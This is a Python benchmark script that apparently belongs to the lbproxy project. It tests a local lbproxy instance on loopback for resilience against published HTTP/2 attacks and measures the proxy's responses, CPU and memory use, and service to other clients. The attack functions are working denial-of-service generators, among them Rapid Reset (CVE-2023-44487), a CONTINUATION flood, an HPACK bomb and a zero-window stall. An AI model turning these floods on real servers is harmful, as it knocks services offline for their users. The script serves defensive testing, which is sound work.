"""
The published HTTP/2 attacks against a real lbproxy daemon, over real
sockets on 127.0.0.1: Rapid Reset (CVE-2023-44487), CONTINUATION flood,
HPACK bomb, oversized headers, SETTINGS, PING, empty DATA and PRIORITY
floods, too many concurrent streams, and a zero-window stall.

One lbproxy (an HTTP listener terminating TLS with ALPN h2, lbproxy's
default HTTP/2 limits) in front of one nginx backend. Each attack is sent
on a connection of its own by the h2 library (only ever given what to
send, never what the server sent, so none of its checks of the server's
settings apply) or, for frames h2 will not make, by hyperframe; each is
bounded by a count and by C{--timeout} seconds. For each, one table row:
what lbproxy sent back and when, the CPU seconds it used, its peak and
kept resident memory, and whether another, well-behaved h2 client was
served a GET while the attack ran and after it.

Run from the repository root with the interpreter that has Twisted and h2:

    python bench/h2_attacks.py
    python bench/h2_attacks.py --quick          # tiny counts, a few seconds

See bench/README.rst for what is measured and how to read it.
"""

from __future__ import annotations

import argparse
import os
import select
import socket
import ssl
import struct
import sys
import threading
import time
from collections import Counter
from dataclasses import asdict, dataclass, field
from typing import Callable, Iterator

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.events import ConnectionTerminated, DataReceived, ResponseReceived, StreamEnded, StreamReset
from h2.settings import SettingCodes
from hpack import Decoder, Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    RstStreamFrame,
    SettingsFrame,
)

from h2_idle import clientContext
from harness import (
    LOOPBACK,
    UPLOAD_PATH,
    BenchError,
    NginxBackends,
    ProcessGroup,
    addKeepWorkdirArgument,
    addLbproxyArguments,
    cpuSeconds,
    formatTable,
    freePort,
    humanBytes,
    lbproxyConfig,
    makeCertificate,
    makePayload,
    makeWorkdir,
    peakMemory,
    processMemory,
    resetPeakMemory,
    runMain,
    say,
    startLbproxy,
    toolVersion,
    waitForPort,
    writeJson,
)

from lbproxy.core.format import formatErrorCode

SMALL = makePayload("100B", 100)
LARGE = makePayload("16MiB", 16 * 1024 * 1024)
AUTHORITY = b"127.0.0.1"
FRAME_SIZE = 16384
#: The frames or requests an attacker puts in one write.
BATCH = 100


def request(path: str, method: bytes = b"GET") -> list[tuple[bytes, bytes]]:
    return [
        (b":method", method),
        (b":scheme", b"https"),
        (b":path", path.encode()),
        (b":authority", AUTHORITY),
    ]


@dataclass(frozen=True)
class Counts:
    """
    How much of each attack is sent (at most: sending stops once lbproxy
    closes the connection).
    """

    resets: int = 10_000
    continuationBytes: int = 50 * 1024 * 1024
    bombReferences: int = 10_000
    headerSize: int = 1024 * 1024
    settings: int = 10_000
    pings: int = 10_000
    emptyFrames: int = 10_000
    priorities: int = 10_000
    streams: int = 1_000
    stalledStreams: int = 100


QUICK = Counts(
    resets=300,
    continuationBytes=2 * 1024 * 1024,
    bombReferences=200,
    headerSize=1024 * 1024,
    settings=200,
    pings=200,
    emptyFrames=300,
    priorities=300,
    streams=150,
    stalledStreams=10,
)


def parseArgs(argv: list[str]) -> argparse.Namespace:
    parser = argparse.ArgumentParser(
        description="Send the published HTTP/2 attacks to a real lbproxy over TLS on "
        "loopback; report its answer, CPU and memory, and whether others were served."
    )
    parser.add_argument(
        "--quick", action="store_true",
        help="tiny counts, a 5 s timeout and a 2 s stall (a check that it all works)",
    )
    parser.add_argument(
        "--timeout", type=float, default=None,
        help="seconds an attack may take, sending and waiting for lbproxy's answer "
        "(default 10, 5 with --quick)",
    )
    parser.add_argument(
        "--stall", type=float, default=None,
        help="seconds the zero-window attack holds its streams (default 10, 2 with --quick)",
    )
    parser.add_argument(
        "--attacks", default=None,
        help=f"comma-separated subset of {','.join(ATTACKS)} (default all)",
    )
    parser.add_argument("--json", default=None, help="also write the rows to this JSON file")
    addLbproxyArguments(parser)
    addKeepWorkdirArgument(parser)
    args = parser.parse_args(argv)
    args.counts = QUICK if args.quick else Counts()
    if args.timeout is None:
        args.timeout = 5.0 if args.quick else 10.0
    if args.stall is None:
        args.stall = 2.0 if args.quick else 10.0
    if args.timeout <= 0 or args.stall <= 0:
        parser.error("--timeout and --stall must be positive")
    if args.attacks is None:
        args.attacks = list(ATTACKS)
    else:
        chosen = [a.strip() for a in args.attacks.split(",") if a.strip()]
        if not chosen or any(a not in ATTACKS for a in chosen):
            parser.error(f"--attacks: expected names from {','.join(ATTACKS)}")
        args.attacks = [a for a in ATTACKS if a in chosen]
    return args


# ---------------------------------------------------------------------------
# What the server sends
# ---------------------------------------------------------------------------


class ServerFrames:
    """
    The frames a server sent on one connection, read with hyperframe, and
    when the first of each interesting kind arrived.

    @ivar goAway: the error code name of the server's GOAWAY, or None.
    @ivar resets: RST_STREAM frames by error code name.
    @ivar statuses: response heads by C{:status}.
    @ivar first: arrival time (C{time.monotonic}) by C{"goaway"},
        C{"reset"}, C{"status"}.
    @ivar settings: the server's SETTINGS frames not yet acknowledged.
    """

    def __init__(self) -> None:
        self.buffer = b""
        self.decoder = Decoder()
        self.decoder.max_header_list_size = 1 << 24
        self.block = b""
        self.goAway: str | None = None
        self.resets: Counter = Counter()
        self.statuses: Counter = Counter()
        self.first: dict[str, float] = {}
        self.settings = 0
        self.dataBytes = 0

    def receive(self, data: bytes, now: float) -> None:
        self.buffer += data
        offset = 0
        while len(self.buffer) - offset >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[offset : offset + 9]))
            if len(self.buffer) - offset - 9 < length:
                break
            frame.parse_body(memoryview(self.buffer[offset + 9 : offset + 9 + length]))
            offset += 9 + length
            self._frame(frame, now)
        self.buffer = self.buffer[offset:]

    def _frame(self, frame: Frame, now: float) -> None:
        if isinstance(frame, GoAwayFrame):
            self.goAway = formatErrorCode(frame.error_code)
            self.first.setdefault("goaway", now)
        elif isinstance(frame, RstStreamFrame):
            self.resets[formatErrorCode(frame.error_code)] += 1
            self.first.setdefault("reset", now)
        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            self.settings += 1
        elif isinstance(frame, DataFrame):
            self.dataBytes += len(frame.data)
        elif isinstance(frame, (HeadersFrame, ContinuationFrame)):
            self.block += frame.data
            if "END_HEADERS" in frame.flags:
                fields = dict(self.decoder.decode(self.block, raw=True))
                self.block = b""
                if b":status" in fields:
                    self.statuses[fields[b":status"].decode()] += 1
                    self.first.setdefault("status", now)


# ---------------------------------------------------------------------------
# Connections
# ---------------------------------------------------------------------------


def connectTLS(port: int, timeout: float) -> ssl.SSLSocket:
    """
    A TLS connection to lbproxy on loopback that selected ALPN h2, each
    write sent at once (C{TCP_NODELAY}).
    """
    raw = socket.create_connection((LOOPBACK, port), timeout=timeout)
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    try:
        sock = clientContext().wrap_socket(raw)
    except OSError:
        raw.close()
        raise
    if sock.selected_alpn_protocol() != "h2":
        sock.close()
        raise BenchError(f"ALPN picked {sock.selected_alpn_protocol()!r}, not h2")
    return sock


class Attacker:
    """
    One attacking connection: what it sends comes from the h2 library's
    client connection (C{h2}, never given the server's frames) or from
    hyperframe; what the server sends is read by L{ServerFrames}.

    @ivar writable: False once a write failed or timed out (the server
        closed, or stopped reading).
    @ivar closed: True once the server closed the connection.
    """

    def __init__(self, port: int, timeout: float) -> None:
        self.sock = connectTLS(port, timeout)
        self.h2 = H2Connection(H2Configuration(client_side=True, header_encoding=None))
        self.h2.initiate_connection()
        self.frames = ServerFrames()
        self.writable = True
        self.closed = False
        self.sentBytes = 0
        self.started = time.monotonic()
        self.send(self.h2.data_to_send())

    def send(self, data: bytes) -> bool:
        """
        Write C{data} whole unless the connection is done; whether it was.
        """
        if not self.writable or self.closed:
            return False
        try:
            self.sock.sendall(data)
        except OSError:
            self.writable = False
            return False
        self.sentBytes += len(data)
        return True

    def sendH2(self) -> bool:
        return self.send(self.h2.data_to_send())

    def done(self) -> bool:
        """
        Whether lbproxy has ended the connection (GOAWAY or close) or it
        can no longer be written.
        """
        return self.closed or not self.writable or self.frames.goAway is not None

    def poll(self, wait: float = 0.0) -> None:
        """
        Read what the server sent, waiting up to C{wait} seconds for the
        first of it; acknowledge its SETTINGS.
        """
        if self.closed:
            return
        if not self.sock.pending():
            readable, _, _ = select.select([self.sock], [], [], max(0.0, wait))
            if not readable:
                return
        timeout = self.sock.gettimeout()
        self.sock.settimeout(0.0)
        try:
            while True:
                try:
                    data = self.sock.recv(65536)
                except (ssl.SSLWantReadError, BlockingIOError):
                    break
                except OSError:
                    self.closed = True
                    break
                if not data:
                    self.closed = True
                    break
                self.frames.receive(data, time.monotonic())
        finally:
            self.sock.settimeout(timeout)
        while self.frames.settings and self.writable:
            self.frames.settings -= 1
            self.send(SettingsFrame(0, flags=["ACK"]).serialize())

    def waitUntil(self, deadline: float, ended: Callable[[], bool]) -> None:
        while not ended() and not self.closed and time.monotonic() < deadline:
            self.poll(min(0.1, deadline - time.monotonic()))

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


def flood(attacker: Attacker, batches: Iterator[bytes], deadline: float) -> int:
    """
    Write each of C{batches} in turn, reading the server's frames between
    them, until lbproxy ends the connection or C{deadline}; how many were
    written whole.
    """
    written = 0
    for batch in batches:
        if attacker.done() or time.monotonic() >= deadline:
            break
        if not attacker.send(batch):
            break
        written += 1
        attacker.poll()
    return written


def chunks(data: bytes, size: int = 65536) -> Iterator[bytes]:
    for offset in range(0, len(data), size):
        yield data[offset : offset + size]


# ---------------------------------------------------------------------------
# The attacks
# ---------------------------------------------------------------------------


def rapidReset(attacker: Attacker, counts: Counts, deadline: float) -> str:
    """
    HEADERS then RST_STREAM (CANCEL) at once, stream after stream.
    """
    h2 = attacker.h2

    def batches() -> Iterator[bytes]:
        for _ in range(0, counts.resets, BATCH):
            for _ in range(BATCH):
                sid = h2.get_next_available_stream_id()
                h2.send_headers(sid, request(SMALL.path))
                h2.reset_stream(sid, ErrorCodes.CANCEL)
            yield h2.data_to_send()

    return f"{flood(attacker, batches(), deadline) * BATCH:,} HEADERS+RST_STREAM"


def continuationFlood(attacker: Attacker, counts: Counts, deadline: float) -> str:
    """
    HEADERS without END_HEADERS, then CONTINUATION frames of the largest
    size allowed, none of them ending the header block.
    """
    first = HeadersFrame(1, flags=["END_STREAM"])
    first.data = Encoder().encode(request(SMALL.path))
    more = ContinuationFrame(1)
    more.data = b"\x00" * FRAME_SIZE
    perBatch = 16
    batch = more.serialize() * perBatch

    def batches() -> Iterator[bytes]:
        yield first.serialize()
        for _ in range(0, counts.continuationBytes, FRAME_SIZE * perBatch):
            yield batch

    written = max(0, flood(attacker, batches(), deadline) - 1) * perBatch
    return f"{written:,} CONTINUATION ({humanBytes(written * FRAME_SIZE)})"


def hpackBomb(attacker: Attacker, counts: Counts, deadline: float) -> str:
    """
    One header block: a 4,000-byte field, which the encoder inserts in
    the dynamic table, then one-byte references to it, again and again.
    """
    bomb = (b"x-bomb", b"a" * 4000)
    attacker.h2.send_headers(1, request(SMALL.path) + [bomb] * counts.bombReferences, end_stream=True)
    block = attacker.h2.data_to_send()
    flood(attacker, chunks(block), deadline)
    decoded = sum(map(len, bomb)) * counts.bombReferences
    return f"{humanBytes(len(block))} block, {humanBytes(decoded)} decoded"


def oversizedHeaders(attacker: Attacker, counts: Counts, deadline: float) -> str:
    """
    One request with a single field of C{headerSize} bytes, in a HEADERS
    frame and CONTINUATION frames of the largest size allowed. The block
    is made with hpack without Huffman coding, which takes minutes on a
    field this long (as it does through h2).
    """
    fields = request(SMALL.path) + [(b"x-big", b"b" * counts.headerSize)]
    block = Encoder().encode(fields, huffman=False)
    pieces = [block[offset : offset + FRAME_SIZE] for offset in range(0, len(block), FRAME_SIZE)]
    frames = []
    for index, piece in enumerate(pieces):
        frame = HeadersFrame(1, flags=["END_STREAM"]) if index == 0 else ContinuationFrame(1)
        if index == len(pieces) - 1:
            frame.flags.add("END_HEADERS")
        frame.data = piece
        frames.append(frame.serialize())
    written = flood(attacker, iter(frames), deadline)
    return f"{written} of {len(frames)} frames ({humanBytes(len(block))} block)"


def frameFlood(make: Callable[[H2Connection, int], None], total: str, name: str, batch: int = BATCH):
    """
    An attack sending C{Counts.TOTAL} frames made by C{make(h2, n)}, in
    writes of C{batch} frames.
    """

    def attack(attacker: Attacker, counts: Counts, deadline: float) -> str:
        h2 = attacker.h2
        count = getattr(counts, total)

        def batches() -> Iterator[bytes]:
            for start in range(0, count, batch):
                for n in range(start, min(count, start + batch)):
                    make(h2, n)
                yield h2.data_to_send()

        written = flood(attacker, batches(), deadline)
        return f"{min(count, written * batch):,} {name}"

    return attack


def settingsFrame(h2: H2Connection, n: int) -> None:
    h2.update_settings({SettingCodes.ENABLE_PUSH: 0})


def pingFrame(h2: H2Connection, n: int) -> None:
    h2.ping(struct.pack(">Q", n))


def priorityFrame(h2: H2Connection, n: int) -> None:
    h2.prioritize(1 + 2 * n, weight=16, depends_on=0)


def emptyDataFlood(attacker: Attacker, counts: Counts, deadline: float) -> str:
    """
    A POST whose body never comes: DATA frames without data, none ending
    the stream. The request and the first 1,000 frames go in one write,
    before the server (nginx, which answers C{/upload} at once) can
    answer and end the stream.
    """
    attacker.h2.send_headers(1, request(UPLOAD_PATH, b"POST"))
    attack = frameFlood(lambda h2, n: h2.send_data(1, b""), "emptyFrames", "empty DATA", 10 * BATCH)
    return attack(attacker, counts, deadline)


def tooManyStreams(attacker: Attacker, counts: Counts, deadline: float) -> str:
    """
    Requests whose bodies never come, so their streams stay open, far more
    of them than lbproxy's SETTINGS_MAX_CONCURRENT_STREAMS.
    """
    return frameFlood(
        lambda h2, n: h2.send_headers(h2.get_next_available_stream_id(), request(SMALL.path)),
        "streams", "streams opened",
    )(attacker, counts, deadline)


def zeroWindowStall(attacker: Attacker, counts: Counts, deadline: float) -> str:
    """
    SETTINGS_INITIAL_WINDOW_SIZE 0, then GETs of a large body, and never a
    WINDOW_UPDATE: lbproxy may not send a byte of any body.
    """
    h2 = attacker.h2
    h2.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 0})
    for _ in range(counts.stalledStreams):
        h2.send_headers(h2.get_next_available_stream_id(), request(LARGE.path), end_stream=True)
    attacker.sendH2()
    return f"{counts.stalledStreams:,} GET {LARGE.path}, window 0"


#: Each attack by name: the function that sends it, and whether it holds
#: its connection for the whole C{--stall} (rather than until lbproxy
#: ends it, or C{--timeout}).
ATTACKS: dict[str, tuple[Callable[[Attacker, Counts, float], str], bool]] = {
    "rapid-reset": (rapidReset, False),
    "continuation-flood": (continuationFlood, False),
    "hpack-bomb": (hpackBomb, False),
    "oversized-headers": (oversizedHeaders, False),
    "settings-flood": (frameFlood(settingsFrame, "settings", "SETTINGS"), False),
    "ping-flood": (frameFlood(pingFrame, "pings", "PING"), False),
    "empty-data-flood": (emptyDataFlood, False),
    "priority-flood": (frameFlood(priorityFrame, "priorities", "PRIORITY"), False),
    "too-many-streams": (tooManyStreams, False),
    "zero-window-stall": (zeroWindowStall, True),
}


# ---------------------------------------------------------------------------
# The other client
# ---------------------------------------------------------------------------


def served(port: int, timeout: float = 10.0) -> bool:
    """
    Whether a well-behaved h2 client on a new connection gets C{SMALL}'s
    body, status 200, within C{timeout} seconds.
    """
    deadline = time.monotonic() + timeout
    try:
        sock = connectTLS(port, timeout)
    except (OSError, BenchError):
        return False
    try:
        conn = H2Connection(H2Configuration(client_side=True, header_encoding=None))
        conn.initiate_connection()
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, request(SMALL.path), end_stream=True)
        sock.sendall(conn.data_to_send())
        status, body = None, b""
        while time.monotonic() < deadline:
            sock.settimeout(max(0.01, deadline - time.monotonic()))
            data = sock.recv(65536)
            if not data:
                return False
            for event in conn.receive_data(data):
                if isinstance(event, ResponseReceived) and event.stream_id == sid:
                    status = dict(event.headers).get(b":status")
                elif isinstance(event, DataReceived) and event.stream_id == sid:
                    body += event.data
                    conn.acknowledge_received_data(event.flow_controlled_length, sid)
                elif isinstance(event, StreamEnded) and event.stream_id == sid:
                    return status == b"200" and body == SMALL.body
                elif isinstance(event, (StreamReset, ConnectionTerminated)):
                    return False
            sock.sendall(conn.data_to_send())
        return False
    except Exception:
        return False
    finally:
        sock.close()


class ServedMeanwhile(threading.Thread):
    """
    L{served} in a thread of its own, while an attack runs.
    """

    def __init__(self, port: int, timeout: float) -> None:
        super().__init__(daemon=True)
        self.port = port
        self.timeout = timeout
        self.result = False

    def run(self) -> None:
        self.result = served(self.port, self.timeout)


# ---------------------------------------------------------------------------
# One attack, measured
# ---------------------------------------------------------------------------


@dataclass
class AttackResult:
    """
    What one attack did to lbproxy.

    @ivar answer: what lbproxy sent back: C{GOAWAY CODE}, C{RST_STREAM
        CODE xN}, C{HTTP STATUS xN}, C{closed} (no frame, the connection
        closed) or C{nothing}.
    @ivar seconds: from the attack's first byte to that answer (None for
        C{nothing}).
    @ivar cpu: lbproxy's CPU seconds (user and system) from the attacker's
        connection to its close.
    @ivar rssBefore: lbproxy's VmRSS before, in KiB.
    @ivar peak: lbproxy's VmHWM during the attack, in KiB (since lbproxy
        started when C{peakReset} is False).
    @ivar rssAfter: lbproxy's VmRSS once the attacker's connection is gone,
        in KiB.
    """

    attack: str
    sent: str
    answer: str
    seconds: float | None
    cpu: float
    rssBefore: int
    peak: int
    rssAfter: int
    peakReset: bool
    servedDuring: bool
    servedAfter: bool
    extra: dict = field(default_factory=dict)

    def row(self) -> list[str]:
        return [
            self.attack,
            self.answer,
            f"{self.seconds:.3f}" if self.seconds is not None else "-",
            f"{self.cpu:.2f}",
            f"{self.peak / 1024:.1f}" + ("" if self.peakReset else "*"),
            f"{(self.peak - self.rssBefore) / 1024:+.1f}",
            f"{(self.rssAfter - self.rssBefore) / 1024:+.1f}",
            "yes" if self.servedDuring else "no",
            "yes" if self.servedAfter else "no",
            self.sent,
        ]


HEADERS = [
    "attack", "lbproxy sent back", "after s", "CPU s", "peak MiB", "peak +MiB",
    "kept +MiB", "GET during", "GET after", "attacker sent",
]


def answerOf(frames: ServerFrames, closed: bool, started: float) -> tuple[str, float | None]:
    """
    The most telling of what the server sent: its GOAWAY, else its
    RST_STREAMs, else its responses' statuses; and how long after
    C{started} the first of that kind came.
    """
    if frames.goAway is not None:
        return f"GOAWAY {frames.goAway}", frames.first["goaway"] - started
    if frames.resets:
        codes = ", ".join(f"{code} x{n}" for code, n in frames.resets.most_common())
        return f"RST_STREAM {codes}", frames.first["reset"] - started
    if frames.statuses:
        codes = ", ".join(f"{code} x{n}" for code, n in frames.statuses.most_common())
        return f"HTTP {codes}", frames.first["status"] - started
    return ("closed" if closed else "nothing"), None


def runAttack(name: str, port: int, pid: int, args: argparse.Namespace) -> AttackResult:
    """
    Send attack C{name} to lbproxy at C{port} (process C{pid}), with a GET
    from another client meanwhile and one after.
    """
    send, holds = ATTACKS[name]
    peakReset = resetPeakMemory(pid)
    rssBefore = processMemory(pid).rss
    user, system = cpuSeconds(pid)
    attacker = Attacker(port, args.timeout)
    try:
        attacker.poll(1.0)
        meanwhile = ServedMeanwhile(port, args.timeout)
        started = time.monotonic()
        deadline = started + (args.stall if holds else args.timeout)
        meanwhile.start()
        sent = send(attacker, args.counts, deadline)
        if holds:
            attacker.waitUntil(deadline, lambda: attacker.closed or attacker.frames.goAway is not None)
        else:
            attacker.waitUntil(deadline, attacker.done)
        # What came with or just after a GOAWAY, up to the close.
        attacker.waitUntil(min(deadline, time.monotonic() + 0.5), lambda: attacker.closed)
        answer, seconds = answerOf(attacker.frames, attacker.closed, started)
    finally:
        attacker.close()
    meanwhile.join(args.timeout + 5)
    time.sleep(0.2)
    userAfter, systemAfter = cpuSeconds(pid)
    peak = peakMemory(pid)
    rssAfter = processMemory(pid).rss
    return AttackResult(
        attack=name, sent=sent, answer=answer, seconds=seconds,
        cpu=userAfter - user + systemAfter - system,
        rssBefore=rssBefore, peak=peak, rssAfter=rssAfter, peakReset=peakReset,
        servedDuring=meanwhile.result, servedAfter=served(port, args.timeout),
        extra={"sentBytes": attacker.sentBytes, "dataBytes": attacker.frames.dataBytes},
    )


# ---------------------------------------------------------------------------
# The run
# ---------------------------------------------------------------------------


def attackConfig(port: int, backendPort: int, tls) -> str:
    """
    lbproxy with one HTTP listener terminating TLS, its HTTP/2 front
    enabled with lbproxy's default limits, one server.
    """
    text = lbproxyConfig(port, [("nginx", backendPort)], mode="http", tls=tls)
    return text + "\n[listeners.bench.http2]\nenabled = true\n"


def report(results: list[AttackResult], args: argparse.Namespace) -> str:
    lines = [formatTable(HEADERS, [r.row() for r in results]), ""]
    if not all(r.peakReset for r in results):
        lines.append("(* the kernel did not let VmHWM be reset: the peak since lbproxy started)")
    lines.append(
        f"(after s: from the attack's first byte to that answer; CPU s: lbproxy's user+system "
        f"seconds; peak: VmHWM during the attack, +MiB over VmRSS before it; kept: VmRSS after "
        f"the attacker closed; GET during/after: another h2 client got {SMALL.path}, status 200; "
        f"each attack at most {args.timeout:g}s, the stall {args.stall:g}s)"
    )
    return "\n".join(lines)


def run(args: argparse.Namespace) -> int:
    workdir = makeWorkdir("lbproxy-bench-h2-attacks-", args.keep_workdir)
    with ProcessGroup(workdir) as group:
        backendPort = freePort()
        backend = NginxBackends(workdir, [backendPort], [SMALL, LARGE])
        group.start("nginx", backend.argv())
        waitForPort(backendPort, group)
        tls = makeCertificate(os.path.join(workdir, "certs"), "ec")
        port = freePort()
        process, reactor = startLbproxy(
            args, group, workdir, "lbproxy", attackConfig(port, backendPort, tls), port
        )
        revision = ""
        if args.lbproxy_source:
            revision = toolVersion(["git", "-C", args.lbproxy_source, "describe", "--always", "--dirty"])
        for _ in range(3):
            if not served(port):
                raise BenchError(
                    f"a well-behaved h2 client was not served {SMALL.path} before any attack"
                )
        say(f"lbproxy {revision or '(installed)'} on {reactor}, pid {process.pid}, "
            f"{'quick' if args.quick else 'default'} counts")
        results = []
        for name in args.attacks:
            group.checkAlive()
            result = runAttack(name, port, process.pid, args)
            results.append(result)
            say(f"{name}: {result.answer} ({result.sent})")
        group.checkAlive()
    say("")
    say(report(results, args))
    if args.json:
        writeJson(args.json, {
            "benchmark": "h2_attacks",
            "lbproxyRevision": revision,
            "reactor": reactor,
            "counts": asdict(args.counts),
            "timeout": args.timeout,
            "stall": args.stall,
            "results": [asdict(r) for r in results],
        })
    return 0


def main(argv: list[str]) -> int:
    return runMain("h2_attacks", parseArgs, run, argv)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
